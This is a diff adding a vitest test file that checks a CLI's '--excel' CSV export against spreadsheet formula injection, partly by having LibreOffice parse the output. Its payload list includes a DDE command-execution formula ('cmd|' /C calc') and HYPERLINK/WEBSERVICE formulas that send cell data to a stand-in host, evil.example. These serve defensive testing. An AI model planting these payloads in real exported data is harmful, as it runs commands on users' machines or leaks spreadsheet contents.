@@ -1,0 +1,148 @@
+import { execFile, spawnSync } from 'node:child_process';
+import { readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { pathToFileURL } from 'node:url';
+import { promisify } from 'node:util';
+import { describe, expect, it } from 'vitest';
+import { ModelService } from '../support/model-service.ts';
+import { runAgainst } from '../support/run-against.ts';
+import { sharedFolder } from '../support/shared-folder.ts';
+
+const newFolder = sharedFolder();
+
+const HAS_OFFICE = spawnSync('soffice', ['--version']).status === 0;
+
+/** Texts that some spreadsheet would run, from OWASP's list, public advisories, and what programs drop on reading. */
+const FORMULAS = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  '\u00a0=1+1',
+  '\u0000=1+1',
+  '\ufeff=1+1',
+  '\u200b=1+1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  "=cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example/?"&A1,"here")',
+  '=WEBSERVICE("http://evil.example/")',
+  'a;=1+1',
+  'a;=1+1;b',
+  'a\t=1+1',
+  'a\n=1+1',
+  '"=1+1',
+  '";=1+1;"',
+  'a";=1+1;"',
+  '=1+1;=2+2',
+];
+
+/** What is a number or a date stays one, negative or not. */
+const PLAIN = [
+  '-12.50',
+  '-1,234.56',
+  '-1.234,56',
+  '+5',
+  '1190.10',
+  '-5 %',
+  '2024-10-15',
+  '15.10.2024',
+  '10-15',
+  'x=1',
+  'a-b',
+];
+
+const RECORDS = [
+  ...FORMULAS.map((text, id) => JSON.stringify({ id, text, nested: { list: [text] }, [`head ${text}`]: 1 })),
+  ...PLAIN.map(
+    (text, at) =>
+      `{"id":${1000 + at},"text":${JSON.stringify(text)},"amount":-12.50,"big":-12345678901234567890}`,
+  ),
+];
+
+async function exported(...flags: string[]): Promise<string> {
+  const args = ['issued', '--format', 'csv', ...flags];
+  const { code, text } = await runAgainst({ records: new ModelService({ issued: RECORDS }), args });
+  expect(code).toBe(0);
+  return text;
+}
+
+describe('--excel', () => {
+  it('leaves numbers and dates as they are', async () => {
+    const text = await exported('--excel', '--columns', 'id,amount,big,text');
+    const rows = text.split('\r\n');
+    PLAIN.forEach((plain, at) => {
+      const cell = plain.includes(',') ? `"${plain}"` : plain;
+      expect(rows).toContain(`${1000 + at},-12.50,-12345678901234567890,${cell}`);
+    });
+  });
+
+  it('begins no cell with what would be run, whatever separates them', async () => {
+    for (const delimiter of [',', ';', '\t']) {
+      const text = await exported('--excel', '--delimiter', delimiter);
+      // Its own separator comes with the quotes that go with it.
+      for (const separator of [',', ';', '\t'].filter((other) => other !== delimiter)) {
+        // Read as by a program that splits there and knows no quotes.
+        const cells = text.replace('\ufeff', '').split(new RegExp(`[${separator}\r\n]`));
+        const run = cells.filter(
+          (cell) =>
+            /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell) && !/^ ?[-+][\d.,]+( %)?[\]}"]*$/.test(cell),
+        );
+        expect(run).toEqual([]);
+      }
+    }
+  });
+
+  it('is not for programs: plain csv is the service’s text', async () => {
+    const text = await exported('--columns', 'text', '--no-header');
+    const quoted = (cell: string): string =>
+      /[",\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell;
+    expect(text).toBe([...FORMULAS, ...PLAIN].map((cell) => `${quoted(cell)}\n`).join(''));
+  });
+});
+
+/** The formulas that LibreOffice finds in a csv, which it is told to separate at these characters, by their codes. */
+async function formulasIn(csv: string, separators: string): Promise<string[]> {
+  const folder = newFolder();
+  writeFileSync(join(folder, 'table.csv'), csv);
+  const profile = `-env:UserInstallation=${pathToFileURL(join(folder, 'profile')).href}`;
+  // Text in quotes, UTF-8, from line 1, any language, quoted fields not as text, special numbers detected, formulas run.
+  const filter = `--infilter=CSV:${separators},34,76,1,,0,false,true,false,false,false,-1,true`;
+  const args = [
+    profile,
+    '--headless',
+    filter,
+    '--convert-to',
+    'fods',
+    '--outdir',
+    folder,
+    join(folder, 'table.csv'),
+  ];
+  await promisify(execFile)('soffice', args);
+  const text = readFileSync(join(folder, 'table.fods'), 'utf8');
+  return [...text.matchAll(/table:formula="([^"]*)"/g)].map(([, formula]) => formula!);
+}
+
+/** LibreOffice takes seconds to start, and more where other tests run beside it. */
+const PATIENCE = 120_000;
+
+describe.runIf(HAS_OFFICE)('LibreOffice', () => {
+  it.each([
+    ['commas', '44'],
+    ['semicolons', '59'],
+    ['commas, semicolons and tabs', '44/59/9'],
+  ])('finds no formula, separating at %s', { timeout: PATIENCE }, async (_, separators) => {
+    expect(await formulasIn(await exported('--excel'), separators)).toEqual([]);
+  });
+
+  it('would find them in plain csv', { timeout: PATIENCE }, async () => {
+    expect((await formulasIn(await exported(), '44/59/9')).length).toBeGreaterThan(10);
+  });
+});
